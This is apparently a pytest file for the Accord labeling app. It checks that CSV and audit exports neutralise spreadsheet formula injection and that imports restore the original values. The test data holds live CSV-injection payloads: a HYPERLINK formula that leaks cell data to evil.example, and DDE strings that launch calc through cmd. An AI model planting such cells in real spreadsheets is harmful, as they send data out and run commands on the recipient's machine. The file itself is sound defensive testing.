"""Every CSV Accord writes neutralises cells a spreadsheet would run as formulas (issue 21)."""

from __future__ import annotations

import csv
import io

import pytest

from labeling.csv_formulas import cell_neutralise, cell_restore
from labeling.models import Annotation, Item
from labeling.services.exports import export_stream
from labeling.services.imports import import_file
from tests.factories import AnnotationFactory, ItemFactory, ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB", "\r=1"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_starting_like_a_formula_gets_a_single_quote_in_front(cell):
    assert cell_neutralise(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["plain", "-3", "+1.5", "-0.25e3", "", 12, None, "a=b"])
def test_plain_text_numbers_and_non_text_cells_are_left_as_they_are(cell):
    assert cell_neutralise(cell) == cell


@pytest.fixture
def hostile(project):
    """An item whose text, annotator name and comment each start like a formula."""
    item = ItemFactory(project=project, external_id="=1+1", data={"text": "=cmd|' /C calc'!A0"})
    AnnotationFactory(
        item=item, annotator=UserFactory(username="@mallory"), value={"label": "positive"}, comment="=HYPERLINK(\"x\")"
    )
    return project


def export_rows(project):
    text = "".join(export_stream(project=project, fmt="csv"))
    return list(csv.DictReader(io.StringIO(text)))


def test_the_csv_export_neutralises_every_formula_cell(hostile):
    row = export_rows(hostile)[0]

    assert row["id"] == "'=1+1"
    assert row["text"] == "'=cmd|' /C calc'!A0"
    assert row["annotator"] == "'@mallory"
    assert row["comment"] == "'=HYPERLINK(\"x\")"
    assert row["label"] == "positive"


def test_machine_consumers_can_turn_the_neutralising_off(hostile, settings):
    settings.ACCORD_CSV_NEUTRALISE_FORMULAS = False

    row = export_rows(hostile)[0]

    assert (row["id"], row["comment"]) == ("=1+1", "=HYPERLINK(\"x\")")


def test_the_audit_csv_neutralises_formula_cells(api_as, lead, project, annotators):
    item = ItemFactory(project=project)
    for user, label in zip(annotators, ("positive", "negative", "neutral"), strict=True):
        AnnotationFactory(item=item, annotator=user, value={"label": label})
    api_as(lead).post(
        f"/api/projects/{project.pk}/review/items/{item.pk}/final",
        {"value": {"label": "positive"}, "note": "=HYPERLINK(\"http://evil.example\")"},
        format="json",
    )
    lead.username = "=lead"
    lead.save()

    exported = api_as(lead).get(f"/api/projects/{project.pk}/audit?format=csv")

    text = b"".join(exported.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, text
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values()), text
    assert any(row["actor"] == "'=lead" for row in rows), text


def test_export_then_import_of_formula_cells_gives_the_same_items(hostile, tmp_path):
    path = tmp_path / "export.csv"
    path.write_text("".join(export_stream(project=hostile, fmt="csv")), encoding="utf-8")
    copy = ProjectFactory(schema=hostile.schema)

    import_file(project=copy, path=path)

    item = Item.objects.get(project=copy)
    annotation = Annotation.objects.get(project=copy)
    assert (item.external_id, item.data["text"]) == ("=1+1", "=cmd|' /C calc'!A0")
    assert (annotation.annotator.username, annotation.comment) == ("@mallory", "=HYPERLINK(\"x\")")


@pytest.mark.parametrize("cell", ["'=1", "'@x", "'-a"])
def test_the_importer_drops_only_the_quote_the_exporter_added(cell):
    assert cell_restore(cell) == cell[1:]
    assert cell_restore("'quoted") == "'quoted"
    assert cell_restore("'-3") == "'-3"
